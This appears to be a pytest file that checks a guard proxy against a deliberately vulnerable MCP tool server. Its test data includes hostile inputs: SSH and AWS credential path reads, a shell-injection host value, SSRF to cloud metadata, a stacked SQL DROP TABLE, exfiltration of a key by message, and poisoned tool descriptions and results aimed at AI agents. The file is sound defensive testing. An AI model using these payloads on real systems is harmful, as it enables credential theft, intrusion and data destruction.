"""The mechanisms of vulnerable-by-design servers, rebuilt as one server of our own, and stopped end to end.

The policy allows everything: what stands in the way here are the checks alone. There is no tray, so what a check asks
about is refused.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from callgate_proxy.home import Home
from challenge_server import KEY
from guarding import ALLOW_ALL, PATIENCE, Guard

SERVER = [sys.executable, str(Path(__file__).with_name("challenge_server.py"))]
Json = dict[str, Any]


class Challenge:
    """One guarded session: all lines at once, then the end."""

    def __init__(self, folder: Path) -> None:
        self.guard = Guard(Home(str(folder / "home")))
        self.guard.policy(ALLOW_ALL)
        self._executed = folder / "executed"

    def plays(self, *calls: tuple[str, Json], listed: bool = True) -> list[Json]:
        """The answers to tools/list and then to `calls`, in order."""
        hello: Json = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
        asked: list[tuple[str, Json]] = [("initialize", hello)] + ([("tools/list", {})] if listed else [])
        asked += [("tools/call", {"name": name, "arguments": arguments}) for name, arguments in calls]
        process = subprocess.Popen(
            self.guard.command(*SERVER), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, encoding="utf-8"
        )
        assert process.stdin is not None
        assert process.stdout is not None
        answers: list[Json] = []
        for request, (method, params) in enumerate(asked):
            process.stdin.write(
                json.dumps({"jsonrpc": "2.0", "id": request, "method": method, "params": params}) + "\n"
            )
            process.stdin.flush()
            answers.append(json.loads(process.stdout.readline())["result"])
            if method == "initialize":
                process.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n')
        process.communicate(timeout=PATIENCE)
        return answers[1:]

    def executed(self) -> list[str]:
        """The tools that the server was made to run."""
        told = self._executed.read_text("utf-8").splitlines() if self._executed.exists() else []
        return [json.loads(line)[0] for line in told]

    def found(self) -> set[str]:
        """The checks that found something in what the server said."""
        return {row["check"] for row in self.guard.rows("found")}


@pytest.fixture
def challenge(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Challenge:
    monkeypatch.setenv("EXECUTED", str(tmp_path / "executed"))
    return Challenge(tmp_path)


def test_a_poisoned_tool_is_not_listed_and_hidden_letters_are_taken_out(challenge: Challenge) -> None:
    (listed,) = challenge.plays()
    shown = {tool["name"]: tool["description"] for tool in listed["tools"]}
    assert "company_facts" not in shown
    assert shown["weather"] == "Tells the weather."
    assert {"words", "hidden"} <= challenge.found()


@pytest.mark.parametrize(
    ("tool", "arguments", "check"),
    [
        ("company_facts", {"note": "x"}, "words"),
        ("read_file", {"path": "~/.ssh/id_rsa"}, "guarded_paths"),
        ("read_file", {"path": "/srv/data/../../root/.aws/credentials"}, "guarded_paths"),
        ("ping_host", {"host": "10.0.0.1; cat /etc/passwd"}, "injection"),
        ("fetch_url", {"url": "http://169.254.169.254/latest/meta-data/"}, "ssrf"),
        ("fetch_url", {"url": "http://2852039166/latest/meta-data/"}, "ssrf"),
    ],
)
def test_a_call_that_uses_the_weakness_does_not_reach_the_server(
    challenge: Challenge, tool: str, arguments: Json, check: str
) -> None:
    refused = challenge.plays((tool, arguments))[-1]
    assert refused["isError"] is True
    assert f"/checks/{check}" in json.dumps(refused)
    assert challenge.executed() == []


def test_a_second_statement_behind_a_query_does_not_reach_the_server(challenge: Challenge) -> None:
    reading = {"require": [{"path": "args.sql", "op": "sql", "value": "read"}]}
    challenge.guard.policy({**ALLOW_ALL, "tools": {"run_query": reading}})
    asked = [
        ("run_query", {"sql": text})
        for text in ("SELECT 1", "SELECT 1; DROP TABLE orders", "WITH a AS (DELETE FROM o)")
    ]
    passed, stacked, hidden = challenge.plays(*asked)[1:]
    assert (passed.get("isError"), stacked["isError"], hidden["isError"]) == (None, True, True)
    assert challenge.executed() == ["run_query"]


def test_orders_in_a_result_are_delivered_and_told_of(challenge: Challenge) -> None:
    result = challenge.plays(("get_ticket", {"id": "7"}))[-1]
    assert "printer" in json.dumps(result)
    assert "results" in challenge.found()


def test_a_secret_that_a_result_held_does_not_leave_by_another_tool(challenge: Challenge) -> None:
    leaving = ("send_message", {"to": "eve@example.net", "body": f"here: {KEY}"})
    refused = challenge.plays(("get_config", {}), leaving)[-1]
    assert refused["isError"] is True
    assert "/checks/" in json.dumps(refused)
    assert challenge.executed() == ["get_config"]
